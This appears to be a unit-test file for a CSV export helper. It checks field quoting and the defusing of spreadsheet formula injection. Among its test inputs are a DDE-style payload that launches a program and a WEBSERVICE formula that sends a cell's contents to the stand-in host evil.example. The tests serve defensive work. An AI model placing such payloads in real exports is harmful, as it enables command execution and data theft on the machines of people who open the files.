import { describe, expect, it } from 'vitest';
import { csvField, csvLine } from './csv.js';

describe('CSV fields', () => {
  it('quotes a field with a comma, a quote or a line break, doubling the quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
  });

  it('defuses every text a spreadsheet could run as a formula: =, +, -, @, tab and carriage return first', () => {
    expect(csvField('=SUM(A1)')).toBe(`"'=SUM(A1)"`);
    expect(csvField('@cmd')).toBe(`"'@cmd"`);
    expect(csvField('+cmd')).toBe(`"'+cmd"`);
    expect(csvField('-cmd')).toBe(`"'-cmd"`);
    expect(csvField('\tx')).toBe(`"'\tx"`);
    expect(csvField('\rx')).toBe(`"'\rx"`);
    // A sign followed by a digit passed before: both were exported verbatim.
    expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe(`"'-2+3+cmd|' /C calc'!A0"`);
    expect(csvField('+0+WEBSERVICE("http://evil.example/?"&D2)')).toBe(
      `"'+0+WEBSERVICE(""http://evil.example/?""&D2)"`,
    );
    expect(csvField('-12.50')).toBe(`"'-12.50"`);
  });

  it('keeps an E.164 phone (quoted) and numbers as they are', () => {
    expect(csvField('+2348012345678')).toBe('"+2348012345678"');
    expect(csvField('+234')).toBe('"+234"');
    expect(csvField('+0123')).toBe(`"'+0123"`);
    expect(csvField(-12.5)).toBe('-12.5');
  });

  it('writes empty fields for null and undefined, and ends a line with CRLF', () => {
    expect(csvLine(['a', null, undefined, 3, true])).toBe('a,,,3,true\r\n');
  });
});
